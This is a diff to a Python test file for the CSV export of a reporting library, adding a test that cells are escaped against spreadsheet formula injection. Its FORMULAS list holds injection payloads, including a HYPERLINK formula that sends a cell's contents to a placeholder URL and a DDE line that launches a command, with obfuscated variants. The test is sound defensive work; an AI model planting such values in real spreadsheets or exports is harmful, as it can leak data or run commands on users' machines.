@@ -26,7 +26,7 @@ from lobes.errors import ConfigError, RunError
 from lobes.report import comparison, export, runs, svg, transfer
 from lobes.report.export import figure_files, latex, table_files, to_csv, to_latex, to_png
 from lobes.report.listing import figures_of, tables_of
-from lobes.report.tabular import Table
+from lobes.report.tabular import Table, spreadsheet_cell
 from lobes.report.view import view
 from lobes.study.reports import write_exhibits, write_figures
 
@@ -324,7 +324,7 @@ def test_cells_become_plain_values():
     ]  # fmt: skip
     assert rows == [
         ["+3", "-1.5", "40", "-1.0", "2.0", "< 0.001", "4.2", "2.9", "5.6", "0.091", "0.5",
-         "-7 of +8", ""],
+         "'-7 of +8", ""],
         ["a − b", "", "12.5", "", "", "0.048", "", "", "", "", "", "1300", ""],
         ["1300", "2.2e-05", "", "0.1", "0.2", "", "-0.1", "-2.9", "5.6", "< 0.001", "0.7",
          "50 %", ""],
@@ -337,7 +337,26 @@ def test_any_text_survives_csv(rows):
     _, *found = rows_of(to_csv(table).encode("utf-8", "surrogatepass"))
     kept = [[cell.replace("\u00a0", " ") for cell in row] for row in rows]
     kept = [[re.sub(r"(?<=\d)\u202f(?=\d)", "", c) if c != "–" else "" for c in r] for r in kept]
-    assert found == kept
+    assert [[cell.removeprefix("'") for cell in row] for row in found] == [
+        [cell.removeprefix("'") for cell in row] for row in kept
+    ]
+
+
+FORMULAS = [
+    *('=HYPERLINK("http://x/?"&A2,"ok")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3"),
+    *("\t=1+1", "\r1", " =1+1", "\u200b=1+1", "＝1+1", "-pos", "--"),
+]
+PLAIN = ["", "3", "-0.25", "+1e-05", "-.5", "+", "-", "a=b", "x@y", "− 1", "[=1]", "'=1"]
+
+
+@pytest.mark.parametrize("name", [*FORMULAS, *PLAIN])
+def test_no_text_is_a_formula_to_a_spreadsheet(name):
+    safe = f"'{name}" if name in FORMULAS else name
+    table = Table("any", "Any", (name or "a", "Value"), ((name, "+3"),))
+    header, row = csv.reader(io.StringIO(to_csv(table), newline=""))
+    assert header == [safe or "a", "Value"]
+    assert row == [safe, "3"]
+    assert spreadsheet_cell(name) == safe
 
 
 def test_latex_escapes():
